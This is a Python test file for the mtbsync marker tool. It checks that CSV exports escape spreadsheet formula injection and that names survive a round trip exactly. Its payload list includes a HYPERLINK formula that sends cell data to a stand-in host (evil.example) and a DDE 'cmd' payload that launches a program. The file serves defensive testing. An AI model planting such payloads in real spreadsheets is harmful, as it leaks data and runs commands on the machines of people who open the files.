"""Spreadsheet (CSV) injection: text that a spreadsheet would run as a formula is written as text,
and mtbsync's own readers give back exactly the names that were written."""

from __future__ import annotations

import csv
import io
import random
from pathlib import Path

import pytest

from mtbsync.export import ExportOptions, FrameRate, export_markers
from mtbsync.io.csvfile import FORMULA_STARTS, read_spreadsheet_text, spreadsheet_text
from mtbsync.markers.io import read_new_markers, read_reference_markers, write_new_markers
from mtbsync.markers.model import TransferredMarker

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already escaped by hand",
    "''two quotes",
    "'",
    "'Til dawn",
    "rock garden",
    "-",
    "=",
]


def _marker(name: str, t: float = 2.0, comment: str = "", colour: str = "") -> TransferredMarker:
    return TransferredMarker(name, 1.0, t, 0.9, False, colour=colour, comment=comment)


def _carried(name: str) -> bool:
    """A name mtbsync carries exactly through its CSVs (cells are stripped on reading, as before)."""
    return bool(name) and name == name.rstrip() and (name[0] not in " \n\v\f\x1c\x1d\x1e\x1f\x85\xa0")


def test_spreadsheet_text_never_starts_a_formula_and_reads_back_exactly() -> None:
    rng = random.Random(12)
    alphabet = "=+-@\t\r'\" ,#ab1"
    names = [*PAYLOADS, *("".join(rng.choices(alphabet, k=rng.randint(1, 6))) for _ in range(5000))]
    for name in names:
        written = spreadsheet_text(name)
        assert written[:1] not in FORMULA_STARTS, repr(name)
        assert read_spreadsheet_text(written) == name, repr(name)


def test_hand_made_text_with_a_leading_quote_is_kept() -> None:
    assert read_spreadsheet_text("'Til dawn") == "'Til dawn"
    assert read_spreadsheet_text("'") == "'"
    assert read_spreadsheet_text("'=SUM(A1)") == "=SUM(A1)"  # the spreadsheet's own escape


def test_new_markers_csv_is_safe_and_round_trips_exactly(tmp_path: Path) -> None:
    rng = random.Random(7)
    alphabet = "=+-@\t\r'\" ,#\nab1é"
    names = [*PAYLOADS, *("".join(rng.choices(alphabet, k=rng.randint(1, 8))) for _ in range(400))]
    names = [n for n in names if _carried(n)]
    markers = [_marker(n, t=float(k), comment=n, colour=n) for k, n in enumerate(names)]
    path = write_new_markers(tmp_path / "new_markers.csv", markers)
    for row in list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))[1:]:
        for cell in (row[0], row[5], row[6]):
            assert cell[:1] not in FORMULA_STARTS, row
    back = read_new_markers(path)
    assert [m.name for m in back] == names
    assert [m.comment for m in back] == names
    assert [m.colour for m in back] == names


def test_reference_markers_reader_takes_the_escape_off(tmp_path: Path) -> None:
    names = [n for n in PAYLOADS if _carried(n)]
    path = write_new_markers(tmp_path / "new_markers.csv", [_marker(n) for n in names])
    # A reviewed new_markers.csv is a common reference markers file for the next run.
    assert [m.name for m in read_reference_markers(path)] == names


def test_export_csv_escapes_text_but_not_numbers(tmp_path: Path) -> None:
    markers = [_marker(n, t=1.0 + k, comment="-check the berm") for k, n in enumerate(PAYLOADS)]
    options = ExportOptions(rate=FrameRate.from_string("25"), start_timecode="00:00:00:00")
    path = export_markers(markers, "csv", tmp_path / "markers.csv", options).path
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert header[:4] == ["name", "timecode", "frame", "seconds"]
    for row in body:
        name, _, frame, seconds, _colour, confidence, _, comment = row
        assert name[:1] not in FORMULA_STARTS and comment[:1] not in FORMULA_STARTS
        assert comment == "'-check the berm"
        float(frame), float(seconds), float(confidence)  # numbers stay numbers
    # The export read back by mtbsync (as reference markers: name + seconds) gives the names exactly.
    assert [m.name for m in read_reference_markers(path)] == [n for n in PAYLOADS if _carried(n)]


@pytest.mark.parametrize("fmt", ["csv"])
def test_cli_export_of_a_formula_name_is_text(fmt: str, tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from mtbsync.cli import app

    markers = write_new_markers(tmp_path / "new_markers.csv", [_marker('=HYPERLINK("http://x","y")')])
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(
        app, ["export", fmt, "-m", str(markers), "-o", str(out), "--fps", "25", "--db", "none"]
    )
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").splitlines()[1].startswith("\"'=HYPERLINK(")


def test_runs_csv_cells_are_text() -> None:
    import polars as pl

    from mtbsync.cli.store_commands import _spreadsheet_safe

    frame = pl.DataFrame({"run": ["=cmd.mp4", "ok.mp4"], "duration_s": [-1.5, 2.0]})
    safe = _spreadsheet_safe(frame, "csv")
    assert safe["run"].to_list() == ["'=cmd.mp4", "ok.mp4"]
    assert safe["duration_s"].to_list() == [-1.5, 2.0]
    assert _spreadsheet_safe(frame, "json")["run"].to_list() == ["=cmd.mp4", "ok.mp4"]
